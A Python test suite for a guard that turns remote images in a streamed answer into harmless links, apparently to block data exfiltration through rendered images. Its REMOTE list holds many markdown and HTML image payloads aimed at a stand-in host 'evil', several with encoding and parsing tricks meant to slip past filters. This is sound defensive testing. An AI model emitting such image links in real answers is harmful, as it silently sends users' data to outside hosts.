"""Images with remote addresses in an answer's text."""

import random
import re
from itertools import pairwise

import pytest
from examples import MANY
from hypothesis import given
from hypothesis import strategies as st

from elbowroom.context.remote_images import MOST_HELD, MOST_LABELS, ImageGuard, is_remote

REMOTE = [
    ("![x](http://evil/?q=secret)", "[image: x](http://evil/?q=secret)"),
    ("![x](HTTPS://evil)", "[image: x](HTTPS://evil)"),
    ("![](http://evil)", "[image: ](http://evil)"),
    ("![x](//evil/a.png)", "[image: x](//evil/a.png)"),
    ("![x](ftp://evil)", "[image: x](ftp://evil)"),
    ("![x](https:evil)", "[image: x](https:evil)"),
    ('![x](http://evil "a title")', '[image: x](http://evil "a title")'),
    ("![x](<http://evil/a b>)", "[image: x](<http://evil/a b>)"),
    ("![x](  \n  http://evil)", "[image: x](  \n  http://evil)"),
    ("> ![x](\n> http://evil)", "> [image: x](\n> http://evil)"),
    ("![x\ny](http://evil)", "[image: x\ny](http://evil)"),
    ("![a [b] c](http://evil)", "[image: a [b] c](http://evil)"),
    ("![[a]](http://evil)", "[image: [a]](http://evil)"),
    (r"![a\]b](http://evil)", r"[image: a\]b](http://evil)"),
    ("![`]`](http://evil)", "[image: `]`](http://evil)"),
    ("![``]`](p.png)``](http://evil)", "[image: ``]`](p.png)``](http://evil)"),
    ("![<a title=']'>](http://evil)", "[image: <a title=']'>](http://evil)"),
    ("![<b>]</b>](http://evil)", "[image: <b>]</b>](http://evil)"),
    ("![<http://x/]>](http://evil)", "[image: <http://x/]>](http://evil)"),
    ("![a](http://evil/(x))", "[image: a](http://evil/(x))"),
    ("![x](&#104;ttp://evil)", "[image: x](&#104;ttp://evil)"),
    ("![x](http&colon;//evil)", "[image: x](http&colon;//evil)"),
    ("![x](&#x2F;&sol;evil)", "[image: x](&#x2F;&sol;evil)"),
    (r"![x](http\://evil)", r"[image: x](http\://evil)"),
    (r"![x](&#104;ttp\://evil)", r"[image: x](&#104;ttp\://evil)"),
    (r"![a\](http://evil)", r"[image: a\](http://evil)"),
    (f"![x]\n\n[x]:{' ' * 1500}http://evil", f"![x]\n\n[x]\\:{' ' * 1500}http://evil"),
    (r"![x](\/\/evil)", r"[image: x](\/\/evil)"),
    (r"![x](\\evil\share)", r"[image: x](\\evil\share)"),
    (r"![x](/\evil)", r"[image: x](/\evil)"),
    ("![x](<\tht\ttp://evil>)", "[image: x](<\tht\ttp://evil>)"),
    ("![x](\u00a0\ufeffhttp://evil)", "[image: x](\u00a0\ufeffhttp://evil)"),
    ("![x](file://evil/share)", "[image: x](file://evil/share)"),
    ("!![x](http://evil)", "! [image: x](http://evil)"),
    ("![a]![x](http://evil)", "![a] [image: x](http://evil)"),
    ("[![x](http://evil)](http://link)", "[[image: x](http://evil)](http://link)"),
    ("![a ![b](http://evil)](p.png)", "[image: a [image: b](http://evil)](p.png)"),
    (r"\![x](http://evil)", r"\[image: x](http://evil)"),
    ("`![x](http://evil)`", "`[image: x](http://evil)`"),
    ("```\n![x](http://evil)\n```", "```\n[image: x](http://evil)\n```"),
    ("![x][1]\n\n[1]: http://evil", "![x][1]\n\n[1]\\: http://evil"),
    ("![x][]\n\n[X]: http://evil", "![x][]\n\n[X]\\: http://evil"),
    ("![x]\n\n> [x]:\n> <//evil>", "![x]\n\n> [x]\\:\n> <//evil>"),
    ("![x][a\n b]\n\n[A B]: http://evil", "![x][a\n b]\n\n[A B]\\: http://evil"),
    ("[1]: http://evil\n\n![x][1]", "[1]: http://evil\n\n[image: x][1]"),
    ("[1]: http://evil\n\n![1] and ![1][]", "[1]: http://evil\n\nimage: [1] and image: [1][]"),
    ("<img src=http://evil>", "&lt;img src=http://evil>"),
    ("<IMG\n SRC = 'HTTP://evil'>", "&lt;IMG\n SRC = 'HTTP://evil'>"),
    ("<img/src=//evil>", "&lt;img/src=//evil>"),
    ('<img alt=">" src="http://evil">', '&lt;img alt=">" src="http://evil">'),
    ('<img alt=">\'" src="http://evil">', '&lt;img alt=">\'" src="http://evil">'),
    ('<img src="ht&Tab;tp://evil">', '&lt;img src="ht&Tab;tp://evil">'),
    ('<img src="\x01 http://evil">', '&lt;img src="\x01 http://evil">'),
    ('<img src="a.png" srcset="a.png 1x, //evil 2x">', '&lt;img src="a.png" srcset="a.png 1x, //evil 2x">'),
    ("> <img\n> src=http://evil>", "> &lt;img\n> src=http://evil>"),
    ("> <img\r> src=http://evil>", "> &lt;img\r> src=http://evil>"),
    ("> ![x](\r\n> http://evil)", "> [image: x](\r\n> http://evil)"),
    ("<img src=http://evil", "&lt;img src=http://evil"),
    ("<img <http://evil/>", "&lt;img <http://evil/>"),
    ('<img style="background:url(//evil)">', '&lt;img style="background:url(//evil)">'),
    ('<video poster="//evil">', '&lt;video poster="//evil">'),
    ('<svg><image href="//evil"/></svg>', '<svg>&lt;image href="//evil"/></svg>'),
    ('<iframe srcdoc="&lt;img src=//evil>">', '&lt;iframe srcdoc="&lt;img src=//evil>">'),
    ('<base href="//evil/">', '&lt;base href="//evil/">'),
    ("<table background=//evil>", "&lt;table background=//evil>"),
]
HARMLESS = [
    "",
    "Wow! Really! [yes](http://here) <b>bold</b> <http://here> a<b, x![0], y! [link](http://here)",
    "![x](a.png) ![x](../b/c.png) ![x](/d.png) ![x](#e) ![x](?f) ![x]() ![x](<a b.png>) ![x](C:\\a.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=) ![x](blob:1) ![x](file:///home/me/a.png)",
    "![[note]] ![[a.png|100]] ![[Folder/Note#Heading]] ![[https]]",
    "![chart](chart.png) and [a link](http://here) and [another][1]\n\n[1]: http://here",
    'let v = vec![1, 2, 3]; println!("{}", v[0]); if (![1, 2].includes(x)) {} #![feature(x)]',
    "(?![!#$%&*+./<=>?@^|_~:]) and (?<![<>]) and [a link](http://here)",
    "![note][1]\n\n[1]: note.png\n[2]: http://here\n\nAs [said][2].",
    "[Note]: something else. List[int]: numbers. {a[0]: 1}",
    "<img src=a.png> <img src='file:///a.png'>",
    "<img alt='see http://here' src='a.png' width=10 /> <img src=\"data:image/png;base64,AA\">",
    '<img\n  src="a.png"\n>\n\nMore <i>text</i> > 3.',
    "<a href=http://here>link</a> <image-viewer src=http://here> <images src=http://here> < img src=http://here>",
    '<td style="text-align: center">a</td> <td style="background: rgb(0, 0, 0)">b</td>',
    "![unfinished",
    "![unfinished](",
    "![unfinished](htt",
    "<img",
    "<img src=",
    "<",
    "!",
    "[x]",
    "[x]:",
    "![x]: y",
    "![a](b.png)" * 500,
]


def guarded(text: str, sizes: list[int] | None = None) -> str:
    """Return what comes out for a text in pieces of these sizes, over and over; in one without."""
    guard = ImageGuard()
    ends = [0]
    while ends[-1] < len(text):
        ends.append(ends[-1] + (sizes[len(ends) % len(sizes)] if sizes else len(text)))
    return "".join(guard.feed(text[start:end]) for start, end in pairwise(ends)) + guard.end()


def test_remote_images_become_links_and_text() -> None:
    """Nothing is lost, and what stands around them stays; in whatever pieces it comes."""
    for text, expected in REMOTE:
        assert guarded(text) == expected, text
        assert guarded(text, [1]) == expected, text
        assert guarded(f"Before {text} behind.") == f"Before {expected} behind.", text


def test_everything_else_passes_byte_for_byte() -> None:
    """Links, embeds, images from the same place, code and half a beginning at the end stay."""
    for text in HARMLESS:
        assert guarded(text) == text, text
        assert guarded(text, [1]) == text, text


WORDS = (
    "![ ! [ ] ( ) ]( ][ ![x](http://e/) ![x][1] [1]: [1] ` `` \\ < > <img <video src= srcset= alt= poster= \" ' http://e",
    "HTTPS: //e / : & &#104; &colon; ttp data: x a.png \u00a0 é ]: style=url(",
)
PIECES = st.sampled_from([*" ".join(WORDS).split(" "), "\n", "\n\n", " ", "\n> ", "\t", "x" * (MOST_HELD - 3)])
TEXTS = st.lists(PIECES, max_size=25).map("".join)


@MANY
@given(TEXTS, st.lists(st.integers(1, 9), min_size=1, max_size=5))
def test_pieces_make_no_difference(text: str, sizes: list[int]) -> None:
    """A text comes out the same, however it was cut."""
    assert guarded(text, sizes) == guarded(text)


@MANY
@given(TEXTS)
def test_what_comes_out_stays_as_it_is(text: str) -> None:
    """What has been made harmless is not changed again."""
    once = guarded(text)
    twice = guarded(once)
    assert twice == once or len(text) >= MOST_HELD


@MANY
@given(st.text(st.characters(exclude_characters="!<]"), max_size=200), st.integers(1, 5))
def test_text_without_their_beginnings_is_handed_on_at_once(text: str, size: int) -> None:
    """Where nothing could begin an image, nothing is held back."""
    guard = ImageGuard()
    for start in range(0, len(text), size):
        assert guard.feed(text[start : start + size]) == text[start : start + size]
    assert guard.end() == ""


@pytest.mark.parametrize(
    "text", ["![x](http://evil/?q=secret)", "<img src=http://evil/?q>", "![x]\n\n[x]: http://evil/?q"]
)
def test_no_image_comes_out_of_two_halves(text: str) -> None:
    """A text that was cut anywhere and goes on later has no remote image; nothing waits for the other half."""
    for place in range(1, 25):
        guard = ImageGuard()
        first = guard.feed(f"Wow{text[:place]}") + guard.cut()
        assert len(first) >= place, f"cut at {place}"
        out = first + guard.feed(f"{text[place:]} more") + guard.end()
        assert guarded(out) == out, f"cut at {place}"
        assert out != f"Wow{text} more", f"cut at {place}"


@MANY
@given(st.lists(TEXTS, max_size=4))
def test_what_was_cut_often_has_no_image(texts: list[str]) -> None:
    """However often a text is cut, what comes out is harmless as a whole."""
    guard = ImageGuard()
    out = "".join(guard.feed(text) + guard.cut() for text in texts) + guard.end()
    assert guarded(out) == out or len(out) >= MOST_HELD


@pytest.mark.parametrize("text", ["Wow!", "See [this]", "![a](b.png) ", "x < y", "[link](http://here)"])
def test_a_cut_changes_no_plain_text(text: str) -> None:
    """What cannot become an image by what follows is as it was."""
    guard = ImageGuard()
    assert guard.feed(text) + guard.cut() + guard.feed(" more") + guard.end() == f"{text} more"


def test_a_new_paragraph_begins_no_image_with_the_one_before() -> None:
    """Behind the end of a step nothing is put between what would belong together on one line."""
    guard = ImageGuard()
    assert guard.feed("Wow!") + guard.end() == "Wow!"
    assert guard.feed("[x](http://here)") + guard.end() == "[x](http://here)"
    assert guard.feed("![x]") + guard.end() == "![x]"
    assert guard.feed("[x]: http://evil") + guard.end() == "[x]\\: http://evil"


def test_what_is_dropped_never_comes_out() -> None:
    """Of a request that has failed, what was held back is gone."""
    guard = ImageGuard()
    assert guard.feed("Look: ![x") == "Look: "
    guard.drop()
    assert guard.feed("here") + guard.end() == "here"


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("Wow!", "!"),
        ("Wow! ", ""),
        ("a <", "<"),
        ("a < b", ""),
        ("<i", "<i"),
        ("<em", "<em"),
        ("<emp", ""),
        ("[x]", "]"),
    ],
)
def test_as_little_as_possible_is_held_back(text: str, held: str) -> None:
    """Only what may begin an image waits."""
    guard = ImageGuard()
    assert guard.feed(text) + held == text
    assert guard.end() == held


def test_a_remote_address_is_clear_from_its_scheme_on() -> None:
    """The person sees the link as it is written, not only at its end."""
    guard = ImageGuard()
    assert guard.feed("![plan](http") == ""
    assert guard.feed(":") == "[image: plan](http:"
    assert guard.feed("//evil/") == "//evil/"


@pytest.mark.parametrize("beginning", ["![", "![x](", '<img alt="', "[x]: ", "<img "])
def test_what_is_held_back_is_bounded(beginning: str) -> None:
    """What goes on for ever comes out all the same, and is no image."""
    guard = ImageGuard()
    fed = out = beginning
    out = guard.feed(beginning)
    for _ in range(3 * MOST_HELD):
        fed += " x"[len(fed) % 2] if beginning != "![x](" else " "
        out += guard.feed(fed[-1])
        assert len(fed) - len(out) <= MOST_HELD
    out += guard.end()
    assert not re.search(r"!\[|<img", out)


def test_many_labels_are_not_remembered_one_by_one() -> None:
    """Beyond the bound every later reference counts as one of an image's: nothing is loaded for having many."""
    many = "".join(f"![{number}]\n" for number in range(MOST_LABELS + 1))
    assert guarded(f"{many}\n![last]\n\n[last]: http://evil").endswith("[last]\\: http://evil")
    many = "".join(f"[{number}]: http://e\n" for number in range(MOST_LABELS + 1))
    assert guarded(f"{many}\n[last]: http://evil\n\n![last]").endswith("image: [last]")


def test_a_label_that_is_too_long_may_be_any() -> None:
    """Where the beginning of a label is out of sight, its address counts for every image."""
    assert guarded(f"[{'a' * MOST_HELD}]: http://evil ![x]").endswith(" image: [x]")
    assert guarded(f"![x] [{'a' * MOST_HELD}]: http://evil").endswith("]\\: http://evil")


def test_an_image_with_too_many_brackets_is_a_link() -> None:
    """What would take long to read is not read to its end."""
    text = f"![{'[a]' * 40}](p.png)"
    assert guarded(text) == text
    text = f"![{'[a]' * 60}](p.png)"
    assert guarded(text) == f"[image: {text[2:]}"


@pytest.mark.slow
def test_hostile_openings_take_bounded_time() -> None:
    """Thousands of openings, brackets and quotes come out in any order."""
    chooser = random.Random(7)
    for pieces in (["!["], ["[", "!["], ["<img "], ["<img a='"], ["]:", "!["], ["`", "![", "]"]):
        text = "".join(chooser.choices(pieces, k=4_000))
        assert len(guarded(text, [7])) >= len(text)


@pytest.mark.parametrize(
    ("address", "remote"),
    [
        ("", False),
        ("a", False),
        ("a:b", False),
        ("ab:c", True),
        ("javascript:x", True),
        ("./a:b", False),
        ("file:a", True),
        ("file:////evil", True),
        ("file:///a", False),
        (" \n//evil", True),
        ("/ /evil", True),
        ("&amp;", False),
    ],
)
def test_addresses_are_told_apart(address: str, remote: bool) -> None:
    """What has a scheme leads elsewhere but for a few, what begins with two slashes always does."""
    assert is_remote(address) is remote


@MANY
@given(st.text(st.sampled_from("htp:/\\.a#?&;Tab104x ile\t"), max_size=14))
def test_more_of_an_address_never_changes_an_answer(address: str) -> None:
    """What was told from a beginning holds for the whole."""
    known = None
    for end in range(len(address) + 1):
        told = is_remote(address[:end], is_whole=False)
        assert known is None or told is known
        known = told
    assert known is None or is_remote(address) is known
